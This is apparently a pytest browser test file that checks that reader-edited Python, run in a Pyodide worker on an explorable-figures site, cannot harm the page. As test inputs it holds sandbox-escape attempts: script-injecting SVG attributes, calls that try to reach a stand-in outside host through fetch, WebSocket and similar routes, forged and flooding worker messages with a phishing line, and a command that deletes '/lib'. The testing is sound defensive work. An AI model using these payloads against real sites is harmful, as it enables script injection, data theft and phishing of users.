"""In Chromium, Firefox and WebKit: a version that a reader edits, or was given, can hurt nobody."""

import pytest
from drivers.chromium import ChromiumReader
from pages_server import PagesServer
from served_site import served
from visit import Visit

OWN = '''
"""How far?"""

import numpy as np

from explorable import Slider, figure


@figure(n=Slider(0, 9, start=2), table=False, limit=8.0)
def calm(ax, n):
    ax.plot(np.arange(n + 1) ** 2)
    return {"last": n**2, "note": "fine"}
'''
FILES = {
    "widgets__odd_py": OWN,
    "content__index_md": "# Odd\n\n/// figure | odd.calm\n///\n\nIt is [[calm.note]].\n",
}
# What Python can do to the worker that it runs in.
FORGES = """
import json
from explorable.worker import session

def forged(self, picture, name, state, layout):
    yield session.Answer(560, 315, json.dumps(NODES), json.dumps(STRINGS), np.array(NUMBERS),
                         "{}", "Forged.")

session.FigureSession.answers = forged
"""
SCRIPTS = """
NODES = [
    {"kind": "path", "commands": "M L1", "attributes": {
        "onclick": "window.hurt = 1", "onmouseover": "window.hurt = 1", "style": "color: red",
        "stroke": "red", "fill": "url(OTHER/paint.svg#a)", "class": "ex-status"}},
    {"kind": "image", "attributes": {"href": "OTHER/attribute.png"}},
]
STRINGS = ["OTHER/image.png"]
NUMBERS = [10.0, 10.0, 200.0, 200.0, 10.0, 10.0, 50.0, 50.0]
"""
ENDLESS_PATH = """
NODES = [{"kind": "path", "commands": "M L99999999999", "attributes": {}}]
STRINGS, NUMBERS = [], [1.0, 2.0]
"""
STRANGE_PARTS = """
NODES = [{"kind": "script", "attributes": {}}, {"kind": "text", "attributes": {"fill": {}}}]
STRINGS, NUMBERS = ["window.hurt = 1"], [1.0, 2.0, 0.0]
"""
REACHES = """
import js
from pyodide.ffi import to_js

js.fetch("OTHER/fetched", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))
for reach in (
    lambda: js.caches.open("stolen"),
    lambda: js.indexedDB.open("stolen"),
    lambda: js.navigator.storage.getDirectory(),
    lambda: js.importScripts("OTHER/imported.js"),
    lambda: js.WebSocket.new("OTHER/socket".replace("http", "ws")),
    lambda: js.Worker.new("OTHER/worker.js"),
    lambda: js.BroadcastChannel.new("everyone").postMessage("stolen"),
    lambda: asked("OTHER/asked"),
):
    try:
        reach()
    except Exception:
        pass

def asked(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
"""
HANDS_OVER = """
import js
from pyodide.ffi import create_proxy, to_js

def spying(owner):
    said = owner.prototype.postMessage
    def post(this, message, *more):
        told = lambda **what: said.call(this, to_js(what, dict_converter=js.Object.fromEntries))
        forge(told)
        said.call(this, message, *more)
    owner.prototype.postMessage = create_proxy(post, capture_this=True)
"""
FLOOD = """
def forge(told):
    for id in range(100_000):
        told(kind="heard", id=id)

spying(js.MessagePort)
"""
STRANGE_WORDS = """
def forge(told):
    for id in range(50):
        told(kind="failed", id=id, sentence="Send your password to us.", detail="no", lost=False)
    told(kind="broken", sentence="Send your password to us.", detail="no")
    told(kind="unheard of")
    told(kind="fetch", id=10_000, address="OTHER/handed")
    told(kind="fetch", id=10_001, address="SITE/tiny/")
    told(id=1)

spying(js.MessagePort)
"""
NO_NUMBERS = """
import explorable.worker.session as told
told.FigureSession.ask = lambda *_: '{"outputs": 1, "series": [{"rows": "all"}]}'
"""
MANY_NUMBERS = """
import json
import explorable.worker.session as told
one = {"panel": "", "series": "<b>", "kind": "line", "rows": [[1, 2, None, None, None]]}
every = {"outputs": {}, "series": [one] * 100_000, "without": 0, "why": ""}
told.FigureSession.ask = lambda *_: json.dumps(every)
"""
EDITING = "() => document.activeElement.matches('#calm-code .cm-content')"
PASTE = """(text) => {
  document.querySelector("#calm-code .cm-content").focus();
  document.execCommand("selectAll");
  document.execCommand("insertText", false, text);
}"""
SAID = "(words) => document.querySelector('#calm-code .ex-panel-said').textContent.includes(words)"
STATUS = "(words) => document.querySelector('#calm .ex-status').textContent.includes(words)"
NUMBERS_SAY = "(words) => document.querySelector('#calm-numbers output').innerText.includes(words)"
PARTS = """() => [...document.querySelectorAll("#calm svg.ex-picture *")].flatMap((one) =>
  [...one.attributes].map(({ name, value }) => `${one.tagName} ${name}=${value}`))"""
HURT = """async () => ({
  hurt: window.hurt ?? null,
  heard: window.heard ?? null,
  caches: await globalThis.caches?.keys(),
  databases: await globalThis.indexedDB?.databases?.().then((all) => all.map(({ name }) => name)),
})"""
LISTEN = """() => {
  new BroadcastChannel("everyone").onmessage = ({ data }) => (window.heard = data);
}"""
UNHURT = {"hurt": None, "heard": None, "caches": [], "databases": []}
ANSWERED = "Your version answered."
LOST = "stopped unexpectedly"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with served(tmp_path_factory.mktemp("odd"), options={"offline": False}, **FILES) as server:
        yield server


@pytest.fixture(scope="module")
def other(tmp_path_factory):
    """Another server, which the site has nothing to do with."""
    with PagesServer(tmp_path_factory.mktemp("other")) as server:
        yield server


class Editor(Visit):
    """A reader who has the editor open."""

    def __init__(self, reader, site, other):
        super().__init__(reader, site)
        self.other = other
        self.open()
        reader.evaluate(LISTEN)
        self.panel("calm", "code")
        self.press("calm", "Edit")
        reader.wait_until(EDITING)

    def run(self, *parts, own=OWN):
        """Run a version that begins with `parts`."""
        text = "\n".join(["import numpy as np", *parts, own])
        text = text.replace("OTHER", self.other.address[:-1]).replace("SITE", self.server.origin)
        self.reader.evaluate(PASTE, text)
        self.press("calm", "Run")

    def hears(self, words):
        self.reader.wait_until(SAID, words)

    def goes_on(self):
        """Another version answers, and then the author's own."""
        self.run("# another one")
        self.hears(ANSWERED)
        self.wait_for("calm", "edited")
        self.press("calm", "Reset")
        self.set("calm", n=3)
        self.wait_for("calm")

    def is_unhurt(self):
        found = self.reader.evaluate(HURT)
        assert {**UNHURT, **{key: value for key, value in found.items() if value}} == UNHURT
        assert self.other.asked == []


def bound(engine):
    """Return a reader whose browser keeps to all policies, as tests of reach need it."""
    if engine.name == "chromium":
        return ChromiumReader(engine.browser, bypass_csp=False)
    return engine.reader()


def test_a_version_reaches_nothing_and_spoils_nothing(engine, site, other):
    with bound(engine) as reader:
        editor = Editor(reader, site, other)
        editor.run(REACHES, SCRIPTS, FORGES)
        editor.hears(ANSWERED)
        parts = reader.evaluate(PARTS)
        assert "path stroke=red" in parts
        wrong = ("=window", " on", "http", " style=", " class=ex-status")
        assert [part for part in parts for each in wrong if each in part] == []
        editor.run("import shutil\nshutil.rmtree('/lib')\nraise ValueError('spoilt')")
        editor.hears("spoilt")
        editor.goes_on()
        editor.is_unhurt()


@pytest.fixture(scope="module")
def editor(running, site, other):
    """One editor for several versions, in Chromium."""
    with bound(running("chromium")) as reader:
        editor = Editor(reader, site, other)
        yield editor
        editor.is_unhurt()


@pytest.mark.parametrize("parts", [ENDLESS_PATH, STRANGE_PARTS], ids=["endless", "strange"])
def test_a_picture_of_strange_parts_is_not_shown(editor, parts):
    editor.run(parts, FORGES)
    editor.hears(LOST)


def test_a_flood_of_messages_is_cut(editor):
    editor.run(HANDS_OVER, FLOOD)
    editor.hears(LOST)


def test_only_our_own_sentences_are_said_and_only_pythons_files_given(editor):
    editor.server.asked.clear()
    editor.run(HANDS_OVER, STRANGE_WORDS)
    editor.reader.wait_until(STATUS, "stopped with an error")
    said = editor.reader.evaluate("() => document.querySelector('#calm .ex-live').textContent")
    assert "password" not in said
    assert "" not in editor.server.asked


@pytest.mark.parametrize("closes", ["    import js\n    js.close()\n", "    np.arange = None\n"])
def test_a_version_that_ends_or_spoils_its_worker_can_be_left(editor, closes):
    editor.run(own=OWN.replace("    return {", closes + "    return {"))
    if "close" in closes:
        editor.reader.wait_until(STATUS, "Stop")
        editor.press("calm", "Stop")
        editor.reader.wait_until(STATUS, "Stopped")
    else:
        editor.hears(ANSWERED)
        editor.press("calm", "Reset")
    editor.goes_on()


def test_numbers_that_are_none_are_told_and_many_have_an_end(editor):
    editor.server.asked.clear()
    editor.run(NO_NUMBERS)
    editor.hears(ANSWERED)
    editor.panel("calm", "numbers")
    editor.reader.wait_until(NUMBERS_SAY, "stopped with an error")
    editor.panel("calm", "code")
    editor.run(MANY_NUMBERS)
    editor.hears(ANSWERED)
    editor.panel("calm", "numbers")
    editor.reader.wait_until(
        "() => document.querySelectorAll('#calm-numbers option').length === 502"
    )
    editor.panel("calm", "code")
    editor.press("calm", "Reset")
    editor.goes_on()
    assert "" not in editor.server.asked  # whether the site has another build
